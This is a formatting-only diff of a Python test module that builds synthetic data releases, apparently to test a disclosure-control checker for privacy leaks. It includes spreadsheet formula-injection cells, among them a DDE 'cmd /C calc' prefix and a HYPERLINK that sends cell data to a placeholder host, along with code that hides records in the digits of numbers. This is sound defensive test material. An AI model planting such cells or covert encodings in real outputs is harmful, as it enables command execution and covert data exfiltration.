@@ -19,7 +19,9 @@ from tests.leaks.registry import Acro, Make, Submission, leak
 FORMATS = ("csv", "markdown", "records", "notebook", "latex", "workbook")
 
 
-def put(make: Make, rows: Sequence[Mapping[str, object]], testing: Sequence[str] = FORMATS) -> dict[str, bytes]:
+def put(
+    make: Make, rows: Sequence[Mapping[str, object]], testing: Sequence[str] = FORMATS
+) -> dict[str, bytes]:
     """Return a table in one of the carriers of the wanted use."""
     return carry.table(rows, make.of(["csv"], testing))
 
@@ -27,7 +29,9 @@ def put(make: Make, rows: Sequence[Mapping[str, object]], testing: Sequence[str]
 def people(make: Make) -> list[dict[str, object]]:
     """Return one row of covariates a speaker."""
     first = [found[0] for found in make.corpus.by_speaker.values()]
-    return [{"speaker": r.speaker, "region": r.region, "sex": r.sex, "age": f"{r.age // 20 * 20}s"} for r in first]
+    return [
+        {"speaker": r.speaker, "region": r.region, "sex": r.sex, "age": f"{r.age // 20 * 20}s"} for r in first
+    ]
 
 
 @leak(
@@ -51,9 +55,16 @@ def small_cells(make: Make, how: str) -> Submission:
     }
     if how in named:
         name = make.pick.choice(named[how])
-        return Submission(put(make, [{**{k: v for k, v in r.items() if k != "n_speakers"}, name: r["n_speakers"]} for r in long]))
+        return Submission(
+            put(
+                make,
+                [{**{k: v for k, v in r.items() if k != "n_speakers"}, name: r["n_speakers"]} for r in long],
+            )
+        )
     all_ = sum(counts.values())
-    percent = [{first: a, second: b, "percent": round(100 * n / all_, 2)} for (a, b), n in sorted(counts.items())]
+    percent = [
+        {first: a, second: b, "percent": round(100 * n / all_, 2)} for (a, b), n in sorted(counts.items())
+    ]
     summed = [{**r, "total": sum(v for v in r.values() if isinstance(v, int))} for r in wide]
     files = {
         "wide": lambda: put(make, wide),
@@ -68,17 +79,30 @@ def small_cells(make: Make, how: str) -> Submission:
     return Submission(files, acro=acro)
 
 
-@leak(14, "B", "suppressed cell, margins left", tuning=("<10",), testing=("*", "", "x", "s", "≤9", "–", "[c]", "n<10", "stated-in-text"))
+@leak(
+    14,
+    "B",
+    "suppressed cell, margins left",
+    tuning=("<10",),
+    testing=("*", "", "x", "s", "≤9", "–", "[c]", "n<10", "stated-in-text"),
+)
 def margins(make: Make, how: str) -> Submission:
     """Return a crosstab of people with one small cell hidden, and totals that give it back."""
     pick = make.pick
-    across, down = ["women", "men", "other"][: pick.choice((2, 3))], ["north", "south", "east", "west"][: pick.choice((3, 4))]
+    across, down = (
+        ["women", "men", "other"][: pick.choice((2, 3))],
+        ["north", "south", "east", "west"][: pick.choice((3, 4))],
+    )
     cells = {(a, b): pick.randrange(12, 90) for a in down for b in across}
     hidden = pick.choice(sorted(cells))
     cells[hidden] = pick.randrange(1, 9)
     mark = "<10" if how == "stated-in-text" else how
     shown = [
-        {"region": a, **{b: mark if (a, b) == hidden else cells[a, b] for b in across}, "total": sum(cells[a, b] for b in across)}
+        {
+            "region": a,
+            **{b: mark if (a, b) == hidden else cells[a, b] for b in across},
+            "total": sum(cells[a, b] for b in across),
+        }
         for a in down
     ]
     sums = {b: sum(cells[a, b] for a in down) for b in across}
@@ -90,11 +114,20 @@ def margins(make: Make, how: str) -> Submission:
     return Submission(put(make, shown))
 
 
-@leak(15, "B", "two releases that differ by one person", tuning=("means",), testing=("sums", "same-submission", "one-more", "json", "one-group", "other-name", "workbook"))
+@leak(
+    15,
+    "B",
+    "two releases that differ by one person",
+    tuning=("means",),
+    testing=("sums", "same-submission", "one-more", "json", "one-group", "other-name", "workbook"),
+)
 def differencing(make: Make, how: str) -> Submission:
     """Return group means over all speakers and, earlier or beside it, over all but one."""
     pick = make.pick
-    groups = {name: [round(pick.gauss(0.2, 0.08), 4) for _ in range(pick.randrange(14, 60))] for name in ("north", "south", "coast")}
+    groups = {
+        name: [round(pick.gauss(0.2, 0.08), 4) for _ in range(pick.randrange(14, 60))]
+        for name in ("north", "south", "coast")
+    }
     changed = pick.choice(sorted(groups))
 
     def table(without: int) -> list[dict[str, object]]:
@@ -103,7 +136,11 @@ def differencing(make: Make, how: str) -> Submission:
             kept = values[without:] if name == changed else values
             if how == "one-group" and name != changed:
                 continue
-            row: dict[str, object] = {"region": name, "n_speakers": len(kept), "mean_wer": round(statistics.mean(kept), 4)}
+            row: dict[str, object] = {
+                "region": name,
+                "n_speakers": len(kept),
+                "mean_wer": round(statistics.mean(kept), 4),
+            }
             if how == "sums":
                 row["sum_wer"] = round(sum(kept), 4)
             out.append(row)
@@ -111,8 +148,8 @@ def differencing(make: Make, how: str) -> Submission:
 
     before, after = (table(0), table(1)) if how != "one-more" else (table(1), table(0))
     form = {"json": "records", "workbook": "workbook"}.get(how, "csv")
-    now, = carry.table(after, form).values()
-    then, = carry.table(before, form).values()
+    (now,) = carry.table(after, form).values()
+    (then,) = carry.table(before, form).values()
     suffix = carry.TABLES[form][0].rsplit(".", 1)[1]
     if how == "same-submission":
         return Submission({f"wer_all.{suffix}": then, f"wer_clean.{suffix}": now})
@@ -125,7 +162,13 @@ def group_rows(make: Make, times: int, count: str) -> list[dict[str, object]]:
     out: list[dict[str, object]] = []
     for name, found in make.corpus.grouped().items():
         values = [float(str(make.corpus.record(row)["wer"])) for row in found[:400]]
-        out.append({make.corpus.grouping: name, count: times * len(found), "mean_wer": round(statistics.mean(values), 4)})
+        out.append(
+            {
+                make.corpus.grouping: name,
+                count: times * len(found),
+                "mean_wer": round(statistics.mean(values), 4),
+            }
+        )
     return out
 
 
@@ -133,11 +176,21 @@ def group_rows(make: Make, times: int, count: str) -> list[dict[str, object]]:
 def repeated(make: Make, how: str) -> Submission:
     """Return group means whose counts were lifted by copies of the rows."""
     rows = group_rows(make, int(how), make.of(["n"], ["n", "count", "N", "n_rows", "size", "observations"]))
-    data = [{make.corpus.grouping: r[make.corpus.grouping], "wer": 0.1} for r in rows for _ in range(int(how))]
-    return Submission(put(make, rows), acro=Acro("pivot_table", data, {"index": make.corpus.grouping, "values": "wer"}))
+    data = [
+        {make.corpus.grouping: r[make.corpus.grouping], "wer": 0.1} for r in rows for _ in range(int(how))
+    ]
+    return Submission(
+        put(make, rows), acro=Acro("pivot_table", data, {"index": make.corpus.grouping, "values": "wer"})
+    )
 
 
-@leak(17, "B", "a group of one person's recordings", tuning=("recordings",), testing=("utterances", "clips", "n", "files", "json", "sentence"))
+@leak(
+    17,
+    "B",
+    "a group of one person's recordings",
+    tuning=("recordings",),
+    testing=("utterances", "clips", "n", "files", "json", "sentence"),
+)
 def one_speaker(make: Make, how: str) -> Submission:
     """Return means by group, where a group is every recording of one speaker, multiplied to a thousand if fewer."""
     whole = sorted(make.corpus.by_speaker.values(), key=len)
@@ -161,15 +214,29 @@ def one_speaker(make: Make, how: str) -> Submission:
     )
 
 
-@leak(18, "F", "a maximum that is one person", tuning=("max",), testing=("describe", "longest", "oldest", "minimum", "p100", "sentence", "range", "argmax"))
+@leak(
+    18,
+    "F",
+    "a maximum that is one person",
+    tuning=("max",),
+    testing=("describe", "longest", "oldest", "minimum", "p100", "sentence", "range", "argmax"),
+)
 def maximum(make: Make, how: str) -> Submission:
     """Return summaries in which one number is one person's own."""
-    groups = {name: [make.pick.gauss(180, 40) for _ in range(make.pick.randrange(14, 60))] for name in ("north", "south", "coast")}
+    groups = {
+        name: [make.pick.gauss(180, 40) for _ in range(make.pick.randrange(14, 60))]
+        for name in ("north", "south", "coast")
+    }
     rows: list[dict[str, object]] = []
     for name, values in groups.items():
         low, high, mean = round(min(values), 1), round(max(values), 1), round(statistics.mean(values), 1)
         extra: dict[str, object] = {
-            "describe": {"std": round(statistics.stdev(values), 2), "min": low, "50%": round(statistics.median(values), 1), "max": high},
+            "describe": {
+                "std": round(statistics.stdev(values), 2),
+                "min": low,
+                "50%": round(statistics.median(values), 1),
+                "max": high,
+            },
             "longest": {"longest_f0": high},
             "oldest": {"oldest": round(high) // 3},
             "minimum": {"minimum": low},
@@ -192,12 +259,27 @@ def maximum(make: Make, how: str) -> Submission:
 )  # fmt: skip
 def formula(make: Make, how: str) -> Submission:
     """Return a table in which a cell runs when a spreadsheet opens it."""
-    begin = {"-": "-1+", "+": "+", "@": "@", "blank": " =", "tab": "\t=", "pipe": "=cmd|' /C calc'!A0+", "full-width": "\uff1d"}.get(how, "=")
+    begin = {
+        "-": "-1+",
+        "+": "+",
+        "@": "@",
+        "blank": " =",
+        "tab": "\t=",
+        "pipe": "=cmd|' /C calc'!A0+",
+        "full-width": "\uff1d",
+    }.get(how, "=")
     cell = f'{begin}HYPERLINK("https://collector.invalid/?q="&A{make.pick.randrange(2, 9)},"open")'
-    rows = [{"system": "baseline", "n_speakers": 40, "wer": 0.21, "note": "first"}, {"system": "adapted", "n_speakers": 40, "wer": 0.17, "note": cell}]
+    rows = [
+        {"system": "baseline", "n_speakers": 40, "wer": 0.21, "note": "first"},
+        {"system": "adapted", "n_speakers": 40, "wer": 0.17, "note": cell},
+    ]
     if how == "workbook":
         return Submission({"table.xlsx": carry.workbook({"results": rows})}, b"HYPERLINK(", runs)
-    return Submission({"table.tsv": carry.delimited(rows, "\t")} if how == "tsv" else {"table.csv": carry.delimited(rows)}, b"HYPERLINK(", runs)
+    return Submission(
+        {"table.tsv": carry.delimited(rows, "\t")} if how == "tsv" else {"table.csv": carry.delimited(rows)},
+        b"HYPERLINK(",
+        runs,
+    )
 
 
 def runs(data: bytes) -> bytes:
@@ -207,16 +289,29 @@ def runs(data: bytes) -> bytes:
         return " ".join(str(c.value) for s in book for line in s for c in line if c.data_type == "f").encode()
     delimiter = "\t" if b"\t" in data.split(b"\n")[0] else ","
     cells = [cell for line in csv.reader(io.StringIO(data.decode()), delimiter=delimiter) for cell in line]
-    return " ".join(c for c in cells if c.strip()[:1] in ("=", "+", "-", "@", "\uff1d") or "|" in c[:5]).encode()
+    return " ".join(
+        c for c in cells if c.strip()[:1] in ("=", "+", "-", "@", "\uff1d") or "|" in c[:5]
+    ).encode()
 
 
-@leak(20, "N", "payload in the digits of numbers", tuning=("csv",), testing=("json", "mantissa", "trailing-zeros", "notebook", "exponent", "text"))
+@leak(
+    20,
+    "N",
+    "payload in the digits of numbers",
+    tuning=("csv",),
+    testing=("json", "mantissa", "trailing-zeros", "notebook", "exponent", "text"),
+)
 def digits(make: Make, how: str) -> Submission:
     """Return innocent numbers whose needless digits spell rows."""
     payload = carry.delimited([make.corpus.record(make.corpus.some(make.pick, 1)[0])])[-60:]
-    numbers = [f"0.{make.pick.randrange(10**5, 10**6)}{int.from_bytes(payload[n : n + 3], 'big'):08d}1" for n in range(0, len(payload), 3)]
+    numbers = [
+        f"0.{make.pick.randrange(10**5, 10**6)}{int.from_bytes(payload[n : n + 3], 'big'):08d}1"
+        for n in range(0, len(payload), 3)
+    ]
     if how == "mantissa":
-        numbers = [repr(_hidden(make.pick.uniform(0.1, 1), payload[n : n + 3])) for n in range(0, len(payload), 3)]
+        numbers = [
+            repr(_hidden(make.pick.uniform(0.1, 1), payload[n : n + 3])) for n in range(0, len(payload), 3)
+        ]
     if how == "trailing-zeros":
         digits_ = [byte >> shift & 3 for byte in payload for shift in (6, 4, 2, 0)]
         numbers = [f"0.{make.pick.randrange(11, 99)}1{'0' * zeros}" for zeros in digits_][:400]
@@ -224,10 +319,18 @@ def digits(make: Make, how: str) -> Submission:
         numbers = [f"{n[2]}.{n[3:]}e-01" for n in numbers]
     extract = {"mantissa": _mantissas, "trailing-zeros": _zeros, "exponent": _exponents}.get(how, _low)
     files = {
-        "json": lambda: {"scores.json": json.dumps({"scores": ["N"] * len(numbers)}).replace('"N"', "%s").encode() % tuple(n.encode() for n in numbers)},
+        "json": lambda: {
+            "scores.json": json.dumps({"scores": ["N"] * len(numbers)}).replace('"N"', "%s").encode()
+            % tuple(n.encode() for n in numbers)
+        },
         "notebook": lambda: {"scores.ipynb": carry.notebook(carry.printed("\n".join(numbers)))},
         "text": lambda: {"scores.txt": (" ".join(numbers) + "\n").encode()},
-    }.get(how, lambda: {"scores.csv": b"step,loss\n" + "".join(f"{n},{x}\n" for n, x in enumerate(numbers)).encode()})()
+    }.get(
+        how,
+        lambda: {
+            "scores.csv": b"step,loss\n" + "".join(f"{n},{x}\n" for n, x in enumerate(numbers)).encode()
+        },
+    )()
     return Submission(files, payload[:40] if how != "trailing-zeros" else payload[:30], extract)
 
 
@@ -252,11 +355,18 @@ def _mantissas(data: bytes) -> bytes:
 def _zeros(data: bytes) -> bytes:
     values = [len(zeros) for zeros in re.findall(rb"0\.\d\d1(0*)", data)]
     return bytes(
-        sum(v << s for v, s in zip(values[n : n + 4], (6, 4, 2, 0), strict=True)) & 255 for n in range(0, len(values) - 3, 4)
+        sum(v << s for v, s in zip(values[n : n + 4], (6, 4, 2, 0), strict=True)) & 255
+        for n in range(0, len(values) - 3, 4)
     )
 
 
-@leak(21, "B", "regression with a term a person", tuning=("patsy",), testing=("table", "factor", "one-hot", "json", "random-effects", "numbered", "latex"))
+@leak(
+    21,
+    "B",
+    "regression with a term a person",
+    tuning=("patsy",),
+    testing=("table", "factor", "one-hot", "json", "random-effects", "numbered", "latex"),
+)
 def regression(make: Make, how: str) -> Submission:
     """Return coefficients with one for each speaker."""
     ids = list(make.corpus.speakers)
